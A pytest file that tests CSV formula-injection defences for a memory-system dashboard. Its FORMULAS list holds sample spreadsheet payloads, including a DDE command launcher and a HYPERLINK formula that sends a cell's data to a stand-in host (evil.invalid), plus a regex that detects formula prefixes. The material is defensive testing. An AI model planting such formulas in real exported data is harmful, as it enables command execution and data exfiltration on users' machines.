"""What is saved as CSV is opened by spreadsheets, which run what looks like a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.data.cells import as_cells, from_cells
from memory_system.operations.importing.columns import as_cell, from_cell
from memory_system.operations.importing.text import Form, read_rows
from tests.conftest import NOW

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.invalid?x="&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
FORMULA = re.compile(r"[=+\-@\t\r＝＋－＠]")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_table_holds_a_formula_and_nothing_else_of_it_is_changed(text: str) -> None:
    frame = pd.DataFrame(
        {"memory": [text, "Saw smoke"], "marks": [[text], []], "score": [-1.5, 2.0], "rank": [1, None]}
    )
    safe = as_cells(frame)
    assert not FORMULA.match(safe["memory"][0])
    assert not FORMULA.match(safe["marks"][0][0])
    assert safe["memory"][1] == "Saw smoke"
    assert safe[["score", "rank"]].equals(frame[["score", "rank"]])
    assert frame["memory"][0] == text
    pd.testing.assert_frame_equal(from_cells(safe), frame)


@given(st.text())
def test_a_text_comes_back_from_its_cell_as_it_was(text: str) -> None:
    assert not FORMULA.match(as_cell(text))
    if text[:1] not in ("\u2060", "'"):
        assert from_cell(as_cell(text)) == text


@pytest.mark.parametrize("mark", ["", "'", "\u2060"])
def test_a_memory_that_begins_like_a_formula_is_read_from_csv_as_it_was(mark: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerows([["document"], [f"{mark}-5 degrees at dawn"], ["'Tis cold"]])
    read = read_rows(written.getvalue(), Form.CSV, NOW)
    assert [row.entry and row.entry.document for row in read] == ["-5 degrees at dawn", "'Tis cold"]


def test_every_table_of_the_dashboard_goes_this_way() -> None:
    folder = Path(__file__).resolve().parents[2] / "dashboard"
    raw = [
        path.name
        for path in folder.rglob("*.py")
        if re.search(r"st\.(dataframe|data_editor|table)\(", path.read_text())
    ]
    assert raw == ["widgets.py"], "Show tables by widgets.table and widgets.edited_table, which hold no formulas."
